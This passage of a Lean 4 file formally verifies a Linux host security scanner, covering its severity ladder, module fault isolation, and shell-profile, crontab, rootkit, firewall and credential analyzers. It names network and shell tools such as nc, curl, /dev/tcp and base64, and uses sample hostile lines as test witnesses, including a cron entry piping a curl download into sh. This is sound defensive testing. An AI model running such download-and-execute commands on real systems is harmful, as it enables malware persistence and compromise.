  if HIGH_SEVERITY_PATTERNS.contains lower then Severity.high
  else if MEDIUM_SEVERITY_PATTERNS.contains lower then Severity.medium
  else if MEDIUM_SEVERITY_PATTERNS.any (fun p =>
      containsSub lower.data p.data || containsSub p.data lower.data) then Severity.medium
  else Severity.high

/-- ShellAnalyzer.describePattern: human-readable category of the pattern. -/
def ShellAnalyzer.describePattern (pattern : String) : String :=
  let lower := lowerStr pattern
  if lower == "wget" || lower == "curl" then "download tool"
  else if lower == "nc" || lower == "ncat" then "network utility (potential reverse shell)"
  else if lower == "eval" || lower == "exec" then "dynamic code execution"
  else if lower == "base64" then "encoding/obfuscation"
  else if containsSub lower.data "/dev/tcp".data || containsSub lower.data "/dev/udp".data then
    "bash network redirection"
  else if containsSub lower.data ".onion".data then "Tor hidden service reference"
  else if containsSub lower.data "python".data && containsSub lower.data "http".data then
    "Python HTTP server/client"
  else "suspicious command"

/-- ShellCollector output field consumed by the analyzer. -/
structure ShellData where
  suspiciousEntries : Option (List SuspiciousEntry) := none

/-- ShellAnalyzer.analyze from src/analyzers/shell.ts lines 35-66: one
finding per suspicious entry, quoting the trimmed line truncated to 150
characters in the description. -/
def ShellAnalyzer.analyze (data : ShellData) : List Finding :=
  (data.suspiciousEntries.getD []).enum.map (fun p =>
    { id := "SHELL-" ++ pad3 (p.1 + 1)
      module := "shell"
      severity := ShellAnalyzer.classifySeverity p.2.matchedPattern
      title := "Suspicious pattern in shell profile: " ++ p.2.matchedPattern
      description := "File \"" ++ p.2.file ++ "\" line " ++ toString p.2.lineNumber ++
        " contains a " ++ ShellAnalyzer.describePattern p.2.matchedPattern ++
        " pattern (\"" ++ p.2.matchedPattern ++ "\"): \"" ++
        truncateStr (jsTrim p.2.line) 150 ++
        "\". Shell profile files run on every login and are a common persistence mechanism for malware."
      details := some [("file", DetailValue.str p.2.file),
        ("lineNumber", DetailValue.nat p.2.lineNumber),
        ("line", DetailValue.str p.2.line),
        ("matchedPattern", DetailValue.str p.2.matchedPattern)]
      remediation := some ("Review line " ++ toString p.2.lineNumber ++ " of \"" ++
        p.2.file ++
        "\". If the entry is not expected, remove it and investigate how it was added. Check recent modification times with \"stat " ++
        p.2.file ++ "\".") })

/-- Modelled from the spec (section 4.5) for comparison with buildSummary:
the status ladder as a function of bucket presence alone. -/
def statusOfPresence (hasCritical hasHigh hasMedium hasLow hasInfo : Bool) : String :=
  if hasCritical then "COMPROMISED"
  else if hasHigh then "THREATS_FOUND"
  else if hasMedium then "WARNINGS"
  else if hasLow || hasInfo then "INFORMATIONAL"
  else "CLEAN"

/-- Number of findings with a given severity. -/
def countSev (s : Severity) (fs : List Finding) : Nat :=
  fs.countP (fun f => f.severity == s)

/-- Concrete finding used by the witness scenarios. -/
def wFindingHigh : Finding :=
  { id := "CRON-001", module := "crontabs", severity := Severity.high
    title := "Crontab contains base64-encoded command", description := "d" }

/-- Concrete module whose collect and analyze both succeed. -/
def wModuleOk : ModuleImpl Unit :=
  { name := "crontabs", collect := Except.ok (), analyze := fun _ => Except.ok [wFindingHigh] }

/-- Concrete module whose collect throws. -/
def wModuleThrowing : ModuleImpl Unit :=
  { name := "rootkit", collect := Except.error "boom", analyze := fun _ => Except.ok [] }

/-- Stored port-3333 entry tagged outbound, used against matchPort. -/
def wPortEntry : PortEntry :=
  { port := 3333, name := "Monero mining pool", severity := "high", direction := "outbound" }

/-- A 126-character crontab line that fires only the download-pipe rule. -/
def longCronLine : String :=
  "* * * * * curl http://x | sh # " ++ (List.replicate 95 'a').asString

/-- Concrete shell-profile hit used by the truncation witness. -/
def wShellEntry : SuspiciousEntry :=
  { file := "/etc/profile", line := "eval $(cmd)", lineNumber := 3, matchedPattern := "eval" }

/-- Concrete firewall input: UFW inactive with restrictive iptables rules. -/
def wFirewallData : FirewallData :=
  { ufw := some ⟨false, ""⟩, fail2ban := none, iptables := some "Chain INPUT (policy DROP)" }

/-- Concrete INFO finding used by the C10 witness. -/
def wInfoFinding : Finding :=
  { id := "CRED-001", module := "credentials", severity := Severity.info
    title := "SSH private keys found on disk", description := "d" }

set_option maxRecDepth 40000

/-- The bucket counters after the buildSummary pass: each starting counter
plus the number of findings of that severity. -/
theorem counts_after_fold (fs : List Finding) (acc : Counts × Severity) :
    (fs.foldl summaryStep acc).1 =
      { critical := acc.1.critical + countSev Severity.critical fs
        high := acc.1.high + countSev Severity.high fs
        medium := acc.1.medium + countSev Severity.medium fs
        low := acc.1.low + countSev Severity.low fs
        info := acc.1.info + countSev Severity.info fs } := by
  induction fs generalizing acc with
  | nil => simp [countSev]
  | cons f t ih =>
    rw [List.foldl_cons, ih]
    cases hf : f.severity <;>
      simp [summaryStep, countSev, hf, List.countP_cons, Counts.mk.injEq] <;> omega

/-- The running maximum severity is untouched by INFO findings. -/
theorem maxSev_all_info (fs : List Finding) (acc : Counts × Severity)
    (h : ∀ f ∈ fs, f.severity = Severity.info) :
    (fs.foldl summaryStep acc).2 = acc.2 := by
  induction fs generalizing acc with
  | nil => rfl
  | cons f t ih =>
    have hf : f.severity = Severity.info := h f (by simp)
    rw [List.foldl_cons, ih _ (fun g hg => h g (by simp [hg]))]
    simp [summaryStep, hf, Severity.num]

/-- C2: the summary status is the strict priority ladder over bucket
presence only — CRITICAL present gives COMPROMISED, else HIGH gives
THREATS_FOUND, else MEDIUM gives WARNINGS, else LOW or INFO gives
INFORMATIONAL, else CLEAN — independent of the magnitudes of the counts. -/
theorem status_presence_ladder (findings : List Finding) :
    (buildSummary findings).status =
      statusOfPresence
        (findings.any (fun f => f.severity == Severity.critical))
        (findings.any (fun f => f.severity == Severity.high))
        (findings.any (fun f => f.severity == Severity.medium))
        (findings.any (fun f => f.severity == Severity.low))
        (findings.any (fun f => f.severity == Severity.info)) := by
  have hc := counts_after_fold findings (⟨0, 0, 0, 0, 0⟩, Severity.info)
  have key : ∀ s : Severity,
      (0 < countSev s findings) = (findings.any (fun f => f.severity == s) = true) := by
    intro s
    rw [countSev]
    exact propext (List.countP_pos_iff.trans List.any_eq_true.symm)
  simp only [buildSummary, statusOfPresence, hc, Nat.zero_add, key, Bool.or_eq_true,
    decide_eq_true_eq]

/-- Every finding falls in exactly one severity bucket. -/
theorem countSev_partition (fs : List Finding) :
    countSev Severity.critical fs + countSev Severity.high fs +
      countSev Severity.medium fs + countSev Severity.low fs +
      countSev Severity.info fs = fs.length := by
  induction fs with
  | nil => rfl
  | cons f t ih =>
    simp only [countSev, List.countP_cons, List.length_cons] at ih ⊢
    cases hf : f.severity <;> simp [hf] <;> omega

/-- C3: summary.total equals critical+high+medium+low+info and both equal
the length of the flattened findings list. -/
theorem summary_total_partition (findings : List Finding) :
    (buildSummary findings).total =
      (buildSummary findings).critical + (buildSummary findings).high +
        (buildSummary findings).medium + (buildSummary findings).low +
        (buildSummary findings).info ∧
    (buildSummary findings).total = findings.length := by
  have hc := counts_after_fold findings (⟨0, 0, 0, 0, 0⟩, Severity.info)
  have hsum := countSev_partition findings
  simp only [buildSummary, hc, Nat.zero_add]
  exact ⟨by omega, by simp⟩

/-- C10: buildSummary on an empty findings list reports maxSeverity INFO,
the same maxSeverity as any scan whose findings are all INFO; the status
field (CLEAN versus INFORMATIONAL) is what tells the two apart. -/
theorem empty_scan_vs_info_only (fs : List Finding) (hne : fs ≠ [])
    (hinfo : ∀ f ∈ fs, f.severity = Severity.info) :
    (buildSummary []).maxSeverity = Severity.info ∧
    (buildSummary fs).maxSeverity = (buildSummary []).maxSeverity ∧
    (buildSummary []).status = "CLEAN" ∧
    (buildSummary fs).status = "INFORMATIONAL" := by
  refine ⟨rfl, ?_, rfl, ?_⟩
  · exact maxSev_all_info fs (⟨0, 0, 0, 0, 0⟩, Severity.info) hinfo
  · have hc := counts_after_fold fs (⟨0, 0, 0, 0, 0⟩, Severity.info)
    have h0 : ∀ s : Severity, s ≠ Severity.info → countSev s fs = 0 := by
      intro s hs
      rw [countSev, List.countP_eq_zero]
      intro f hf
      simp [hinfo f hf]
      exact fun h => hs h.symm
    have hpos : 0 < countSev Severity.info fs := by
      rw [countSev, List.countP_pos_iff]
      rcases List.exists_mem_of_ne_nil fs hne with ⟨f, hf⟩
      exact ⟨f, hf, by simp [hinfo f hf]⟩
    simp only [buildSummary, hc, Nat.zero_add]
    rw [h0 Severity.critical (by simp), h0 Severity.high (by simp),
      h0 Severity.medium (by simp), h0 Severity.low (by simp)]
    simp [hpos]

/-- C7: a scan with no findings does not exit 0 — buildSummary reports
maxSeverity INFO for the empty findings list, and severityToExitCode maps
INFO to 1, so the default 0 branch is unreachable through the scanner. -/
theorem exit_code_empty_scan :
    (buildSummary []).maxSeverity = Severity.info ∧
    (buildSummary []).total = 0 ∧
    severityToExitCode (buildSummary []).maxSeverity.num = 1 := by decide

/-- The module loop is a map: starting from any accumulator, it appends one
ModuleResult per module and the findings of that module. -/
theorem foldl_scanStep_eq {d : Type} (mods : List (ModuleImpl d))
    (rs : List (ModuleResult d)) (fs : List Finding) :
    mods.foldl scanStep (rs, fs) =
      (rs ++ mods.map runModule,
       fs ++ (mods.map (fun m => (runModule m).findings)).join) := by
  induction mods generalizing rs fs with
  | nil => simp
  | cons m t ih => simp [scanStep, ih, List.append_assoc]

/-- The module results of a scan are exactly the standalone runs. -/
theorem scanner_modules_eq {d : Type} (mods : List (ModuleImpl d)) :
    (Scanner.run mods).modules = mods.map runModule := by
  simp [Scanner.run, foldl_scanStep_eq]

/-- runModule keeps the module name in every outcome. -/
theorem runModule_module {d : Type} (m : ModuleImpl d) :
    (runModule m).module = m.name := by
  rcases hc : m.collect with e | dat
  · simp [runModule, hc]
  · rcases ha : m.analyze dat with e | fs <;> simp [runModule, hc, ha]

/-- A throwing module gets its message recorded and no findings. -/
theorem runModule_throw {d : Type} (m : ModuleImpl d) (msg : String)
    (h : throwsWith m msg) :
    (runModule m).error = some msg ∧ (runModule m).findings = [] := by
  rcases h with hc | ⟨dat, hc, ha⟩
  · simp [runModule, hc]
  · simp [runModule, hc, ha]

/-- C1: when collect or analyze of a requested module throws, the
orchestrator records the exception message as the ModuleResult.error of that
module (non-empty), leaves its findings empty, keeps the module in the
result list, and every other requested module gets its standalone run. -/
theorem module_fault_isolation {d : Type} (mods : List (ModuleImpl d)) (i : Nat)
    (hi : i < mods.length) (msg : String) (hmsg : msg ≠ "")
    (hthrow : throwsWith (mods.get ⟨i, hi⟩) msg) :
    ∃ r : ModuleResult d,
      (Scanner.run mods).modules.get? i = some r ∧
      r.module = (mods.get ⟨i, hi⟩).name ∧
      r.error = some msg ∧ msg ≠ "" ∧
      r.findings = [] ∧
      (Scanner.run mods).modules.length = mods.length ∧
      ∀ j : Nat, j ≠ i →
        (Scanner.run mods).modules.get? j = (mods.get? j).map runModule := by
  have hmod := scanner_modules_eq mods
  have hget : (Scanner.run mods).modules.get? i = some (runModule (mods.get ⟨i, hi⟩)) := by
    rw [hmod, List.get?_map, List.get?_eq_get hi]
    rfl
  have hrec := runModule_throw (mods.get ⟨i, hi⟩) msg hthrow
  refine ⟨runModule (mods.get ⟨i, hi⟩), hget, runModule_module _, hrec.1, hmsg, hrec.2, ?_, ?_⟩
  · rw [hmod, List.length_map]
  · intro j _
    rw [hmod, List.get?_map]

/-- Witness for C1: a two-module scan whose second module throws "boom"
while the first still reports its finding. -/
theorem module_fault_isolation_witness :
    ∃ r : ModuleResult Unit,
      (Scanner.run [wModuleOk, wModuleThrowing]).modules.get? 1 = some r ∧
      r.module = ([wModuleOk, wModuleThrowing].get ⟨1, by decide⟩).name ∧
      r.error = some "boom" ∧ ("boom" : String) ≠ "" ∧
      r.findings = [] ∧
      (Scanner.run [wModuleOk, wModuleThrowing]).modules.length =
        [wModuleOk, wModuleThrowing].length ∧
      ∀ j : Nat, j ≠ 1 →
        (Scanner.run [wModuleOk, wModuleThrowing]).modules.get? j =
          ([wModuleOk, wModuleThrowing].get? j).map runModule :=
  module_fault_isolation [wModuleOk, wModuleThrowing] 1 (by decide) "boom" (by decide)
    (Or.inl rfl)

/-- C4 counterexample: a stored port-3333 entry whose direction is
"outbound" is returned by matchPort(3333, "listening"), so the result is
not null even though the stored direction is not exactly "listening". -/
theorem matchPort_listening_cex :
    ThreatDB.matchPort [wPortEntry] 3333 "listening" = some wPortEntry ∧
    wPortEntry.port = 3333 ∧ wPortEntry.direction ≠ "listening" := by decide

/-- C4 amended: an "outbound" query returns only a stored port-3333 entry
tagged "outbound"; a "listening" query returns null unless some stored
port-3333 entry is tagged "listening" or "outbound" — outbound-tagged
entries match both query directions, listening-tagged entries only
listening queries. -/
theorem matchPort_direction_semantics (table : List PortEntry) :
    (∀ e, ThreatDB.matchPort table 3333 "outbound" = some e →
      e ∈ table ∧ e.port = 3333 ∧ e.direction = "outbound") ∧
    (ThreatDB.matchPort table 3333 "listening" ≠ none →
      ∃ e, e ∈ table ∧ e.port = 3333 ∧
        (e.direction = "listening" ∨ e.direction = "outbound")) := by
  constructor
  · intro e he
    unfold ThreatDB.matchPort at he
    rw [if_neg (by decide)] at he
    have h1 := List.find?_some he
    have h2 := List.mem_of_find?_eq_some he
    simp only [Bool.and_eq_true, Bool.or_eq_true, beq_iff_eq] at h1
    exact ⟨h2, h1.1, h1.2.elim id id⟩
  · intro hne
    rcases ho : ThreatDB.matchPort table 3333 "listening" with _ | e
    · exact absurd ho hne
    · unfold ThreatDB.matchPort at ho
      rw [if_pos rfl] at ho
      have h1 := List.find?_some ho
      have h2 := List.mem_of_find?_eq_some ho
      simp only [Bool.and_eq_true, Bool.or_eq_true, beq_iff_eq] at h1
      exact ⟨e, h2, h1.1, h1.2⟩

/-- Witness for C4 at the one-entry table holding the outbound port-3333
entry. -/
theorem matchPort_direction_semantics_witness :
    (wPortEntry ∈ [wPortEntry] ∧ wPortEntry.port = 3333 ∧
      wPortEntry.direction = "outbound") ∧
    ∃ e, e ∈ [wPortEntry] ∧ e.port = 3333 ∧
      (e.direction = "listening" ∨ e.direction = "outbound") := by
  have h := matchPort_direction_semantics [wPortEntry]
  exact ⟨h.1 wPortEntry (by decide), h.2 (by decide)⟩

/-- A string is non-empty exactly when its length is positive. -/
theorem length_pos_iff_ne_empty (s : String) : (0 < s.length) ↔ s ≠ "" := by
  have hd : s.length = s.data.length := rfl
  rw [hd, List.length_pos]
  constructor
  · intro h hcon
    subst hcon
    exact h rfl
  · intro h hcon
    exact h (String.ext (hcon.trans rfl))

/-- C5 counterexample: preload content consisting of a single comment line
contains no non-empty non-comment content, yet the rootkit analyzer still
emits the CRITICAL LD_PRELOAD finding (with an empty entries list). -/
theorem rootkit_comment_only_cex :
    (RootkitAnalyzer.analyze ⟨some "# comment", none, none, none⟩).length = 1 ∧
    ((RootkitAnalyzer.analyze ⟨some "# comment", none, none, none⟩).map Finding.severity) =
      [Severity.critical] ∧
    (((splitNl (jsTrim "# comment")).map jsTrim).filter
      (fun l => l.length > 0 && !(jsStartsWith l "#"))) = [] := by decide

/-- C5 amended: the rootkit analyzer emits its CRITICAL LD_PRELOAD finding
exactly when the trimmed preload file content is non-empty — comment-only
content also triggers it, then with empty details.entries; in particular,
for the single non-comment line /etc/data/libsystem.so it produces exactly
one finding, CRITICAL, whose details.entries is that one path. -/
theorem rootkit_preload_trigger (data : RootkitData) :
    ((RootkitAnalyzer.analyze data).any
        (fun f => f.title == "LD_PRELOAD rootkit detected") = true ↔
      jsTrim (data.ldPreload.getD "") ≠ "") ∧
    (RootkitAnalyzer.analyze ⟨some "/etc/data/libsystem.so", none, none, none⟩).length = 1 ∧
    ((RootkitAnalyzer.analyze ⟨some "/etc/data/libsystem.so", none, none, none⟩).map
        (fun f => (f.severity, detailsGet f "entries"))) =
      [(Severity.critical, some (DetailValue.strList ["/etc/data/libsystem.so"]))] := by
  refine ⟨?_, by decide, by decide⟩
  by_cases h : jsTrim (data.ldPreload.getD "") = ""
  · cases hed : data.etcDataExists.getD false <;>
      simp [RootkitAnalyzer.analyze, h, hed, List.any_map, Function.comp] <;>
      (rintro x i s2 - rfl; simp)
  · have hpos : 0 < (jsTrim (data.ldPreload.getD "")).length :=
      (length_pos_iff_ne_empty _).mpr h
    simp [RootkitAnalyzer.analyze, hpos, h]

/-- With UFW inactive, isSshOpenToAll returns true whatever the iptables
text is: every fall-through path of the function ends in true. -/
theorem isSshOpenToAll_of_inactive (ufw : UfwData) (iptables : String)
    (h : ufw.active = false) :
    FirewallAnalyzer.isSshOpenToAll ufw iptables = true := by
  unfold FirewallAnalyzer.isSshOpenToAll
  rw [h]
  simp

/-- C6: whenever ufw.active is false (including a missing ufw record, which
defaults to inactive), the firewall analyzer emits both the HIGH finding
"UFW firewall is not active" and the MEDIUM finding "SSH is not restricted
by firewall", independent of the iptables text and the fail2ban state. -/
theorem ufw_inactive_two_findings (data : FirewallData)
    (hufw : (data.ufw.getD ⟨false, ""⟩).active = false) :
    ((FirewallAnalyzer.analyze data).any (fun f =>
      f.severity == Severity.high && f.title == "UFW firewall is not active")) = true ∧
    ((FirewallAnalyzer.analyze data).any (fun f =>
      f.severity == Severity.medium &&
        f.title == "SSH is not restricted by firewall")) = true := by
  have hssh := isSshOpenToAll_of_inactive (data.ufw.getD ⟨false, ""⟩)
    (data.iptables.getD "") hufw
  simp only [FirewallAnalyzer.analyze]
  rw [hufw, hssh]
  simp [List.any_append]

/-- Witness for C6: UFW inactive together with restrictive iptables rules
still yields both findings. -/
theorem ufw_inactive_two_findings_witness :
    ((FirewallAnalyzer.analyze wFirewallData).any (fun f =>
      f.severity == Severity.high && f.title == "UFW firewall is not active")) = true ∧
    ((FirewallAnalyzer.analyze wFirewallData).any (fun f =>
      f.severity == Severity.medium &&
        f.title == "SSH is not restricted by firewall")) = true :=
  ufw_inactive_two_findings wFirewallData (by decide)

/-- Splitting on newline leaves newline-free character lists whole. -/
theorem splitNlChars_no_newline (cs : List Char) (h : '\n' ∉ cs) :
    splitNlChars cs = [cs] := by
  induction cs with
  | nil => rfl
  | cons c t ih =>
    have hc : ¬ c = '\n' := fun hcon => h (hcon ▸ List.mem_cons_self c t)
    have ht : '\n' ∉ t := fun hmem => h (List.mem_cons_of_mem c hmem)
    simp [splitNlChars, ih ht, hc]

/-- Splitting a newline-free string on newline gives the string back. -/
theorem splitNl_no_newline (s : String) (h : '\n' ∉ s.data) :
    splitNl s = [s] := by
  simp [splitNl, splitNlChars_no_newline s.data h]
  rfl

/-- truncateStr keeps short strings whole. -/
theorem truncateStr_of_le (s : String) (max : Nat) (h : s.length ≤ max) :
    truncateStr s max = s := by
  unfold truncateStr
  rw [if_neg (by omega)]

/-- truncateStr cuts long strings to max characters plus a 3-character
ellipsis. -/
theorem truncateStr_of_gt (s : String) (max : Nat) (h : max < s.length) :
    (truncateStr s max).length = max + 3 := by
  unfold truncateStr
  rw [if_pos h]
  rw [String.length_append]
  have h1 : ((s.data.take max).asString).length = (s.data.take max).length := rfl
  have h2 : s.length = s.data.length := rfl
  have h3 : ("..." : String).length = 3 := rfl
  rw [h1, h3, List.length_take]
  omega

/-- C8 counterexample: a 126-character crontab line that fires the
download-pipe rule; the text quoted in the finding description is the
120-character truncation, and the description does not contain the line cut
at 150 characters (which, for this line, is the whole line). -/
theorem crontab_truncation_cex :
    (CrontabAnalyzer.analyze ⟨some longCronLine, none, none, none⟩).length = 1 ∧
    truncateStr longCronLine 150 = longCronLine ∧
    ((CrontabAnalyzer.analyze ⟨some longCronLine, none, none, none⟩).all (fun f =>
      containsSub f.description.data (truncateStr longCronLine 120).data &&
      !(containsSub f.description.data longCronLine.data))) = true := by decide

/-- C8 amended: quoted matched text is truncated to 150 characters in the
shell analyzer but to 120 characters in the crontab analyzer; truncation
keeps strings within the limit whole and appends an ellipsis to longer
ones. -/
theorem quoted_text_truncation (line : String) (e : SuspiciousEntry)
    (hnl : '\n' ∉ line.data)
    (hne : line ≠ "")
    (hskip : cronSkipLine (jsTrim line) = false)
    (hpipe : testDownloadPipe (jsTrim line) = true)
    (hb64 : testBase64Decode (jsTrim line) = false)
    (htmp : tmpExecMatch (jsTrim line) = none)
    (hhid : hiddenExecMatch (jsTrim line) = none) :
    (∃ pre post : String,
      (CrontabAnalyzer.analyze ⟨some line, none, none, none⟩).map Finding.description =
        [pre ++ truncateStr (jsTrim line) 120 ++ post]) ∧
    (∃ pre post : String,
      (ShellAnalyzer.analyze ⟨some [e]⟩).map Finding.description =
        [pre ++ truncateStr (jsTrim e.line) 150 ++ post]) ∧
    (∀ s : String, s.length ≤ 120 → truncateStr s 120 = s) ∧
    (∀ s : String, 120 < s.length → (truncateStr s 120).length = 123) ∧
    (∀ s : String, s.length ≤ 150 → truncateStr s 150 = s) ∧
    (∀ s : String, 150 < s.length → (truncateStr s 150).length = 153) := by
  refine ⟨?_, ?_, fun s h => truncateStr_of_le s 120 h,
    fun s h => truncateStr_of_gt s 120 h, fun s h => truncateStr_of_le s 150 h,
    fun s h => truncateStr_of_gt s 150 h⟩
  · have hana : CrontabAnalyzer.analyze ⟨some line, none, none, none⟩ =
        cronLineFindings 0 "root crontab" 1 (jsTrim line) := by
      simp only [CrontabAnalyzer.analyze, Option.getD_some, Option.getD_none]
      rw [if_pos hne]
      simp [cronSourceFindings, splitNl_no_newline line hnl]
    refine ⟨"Entry in root crontab (line 1) pipes a download command directly to a shell interpreter: \"",
      "\". This is the most common malware persistence technique via cron.", ?_⟩
    rw [hana]
    simp [cronLineFindings, hskip, hpipe, hb64, htmp, hhid]
    rfl
  · exact ⟨"File \"" ++ e.file ++ "\" line " ++ toString e.lineNumber ++ " contains a " ++
      ShellAnalyzer.describePattern e.matchedPattern ++ " pattern (\"" ++
      e.matchedPattern ++ "\"): \"",
      "\". Shell profile files run on every login and are a common persistence mechanism for malware.",
      rfl⟩

/-- Witness for C8 at a concrete crontab line and shell-profile entry. -/
theorem quoted_text_truncation_witness :
    (∃ pre post : String,
      (CrontabAnalyzer.analyze
          ⟨some "* * * * * curl http://a | sh", none, none, none⟩).map Finding.description =
        [pre ++ truncateStr (jsTrim "* * * * * curl http://a | sh") 120 ++ post]) ∧
    (∃ pre post : String,
      (ShellAnalyzer.analyze ⟨some [wShellEntry]⟩).map Finding.description =
        [pre ++ truncateStr (jsTrim wShellEntry.line) 150 ++ post]) ∧
    (∀ s : String, s.length ≤ 120 → truncateStr s 120 = s) ∧
    (∀ s : String, 120 < s.length → (truncateStr s 120).length = 123) ∧
    (∀ s : String, s.length ≤ 150 → truncateStr s 150 = s) ∧
    (∀ s : String, 150 < s.length → (truncateStr s 150).length = 153) :=
  quoted_text_truncation "* * * * * curl http://a | sh" wShellEntry (by decide) (by decide)
    (by decide) (by decide) (by decide) (by decide) (by decide)

/-- C9 counterexample: two discovered SSH private keys yield one single
INFO finding (whose count detail is 2), not one finding per key. -/
theorem ssh_keys_single_finding_cex :
    (CredentialAnalyzer.analyze
      ⟨none, none, none, some ["/root/.ssh/id_rsa", "/home/dev/.ssh/id_ed25519"]⟩).length = 1 ∧
    ((CredentialAnalyzer.analyze
        ⟨none, none, none, some ["/root/.ssh/id_rsa", "/home/dev/.ssh/id_ed25519"]⟩).map
      (fun f => (f.severity, detailsGet f "count"))) =
      [(Severity.info, some (DetailValue.nat 2))] := by decide

/-- C9 amended: the credentials analyzer reports all discovered private
keys in one aggregated INFO finding — for n greater than 0 keys and no
other credential data the output is exactly one INFO finding whose details
list every key and their count. -/
theorem ssh_keys_aggregated (keys : List String) (hk : keys ≠ []) :
    (CredentialAnalyzer.analyze ⟨none, none, none, some keys⟩).length = 1 ∧
    (CredentialAnalyzer.analyze ⟨none, none, none, some keys⟩).map
        (fun f => (f.severity, detailsGet f "count", detailsGet f "paths")) =
      [(Severity.info, some (DetailValue.nat keys.length),
        some (DetailValue.strList keys))] := by
  rcases keys with _ | ⟨k, t⟩
  · exact absurd rfl hk
  · constructor
    · simp [CredentialAnalyzer.analyze]
    · simp [CredentialAnalyzer.analyze, detailsGet, List.lookup]

/-- Witness for C9 at a single discovered key. -/
theorem ssh_keys_aggregated_witness :
    (CredentialAnalyzer.analyze ⟨none, none, none, some ["/root/.ssh/id_rsa"]⟩).length = 1 ∧
    (CredentialAnalyzer.analyze ⟨none, none, none, some ["/root/.ssh/id_rsa"]⟩).map
        (fun f => (f.severity, detailsGet f "count", detailsGet f "paths")) =
      [(Severity.info, some (DetailValue.nat ["/root/.ssh/id_rsa"].length),
        some (DetailValue.strList ["/root/.ssh/id_rsa"]))] :=
  ssh_keys_aggregated ["/root/.ssh/id_rsa"] (by decide)

/-- Witness for C10 at a one-element INFO findings list. -/
theorem empty_scan_vs_info_only_witness :
    (buildSummary []).maxSeverity = Severity.info ∧
    (buildSummary [wInfoFinding]).maxSeverity = (buildSummary []).maxSeverity ∧
    (buildSummary []).status = "CLEAN" ∧
    (buildSummary [wInfoFinding]).status = "INFORMATIONAL" :=
  empty_scan_vs_info_only [wInfoFinding] (by decide) (by decide)

/-- Witness for C5 at comment-only and at single-path preload content. -/
theorem rootkit_preload_trigger_witness :
    (((RootkitAnalyzer.analyze ⟨some "# x", none, none, none⟩).any
        (fun f => f.title == "LD_PRELOAD rootkit detected") = true ↔
      jsTrim ((some "# x" : Option String).getD "") ≠ "")) ∧
    (RootkitAnalyzer.analyze ⟨some "/etc/data/libsystem.so", none, none, none⟩).length = 1 ∧
    ((RootkitAnalyzer.analyze ⟨some "/etc/data/libsystem.so", none, none, none⟩).map
        (fun f => (f.severity, detailsGet f "entries"))) =
      [(Severity.critical, some (DetailValue.strList ["/etc/data/libsystem.so"]))] :=
  rootkit_preload_trigger ⟨some "# x", none, none, none⟩
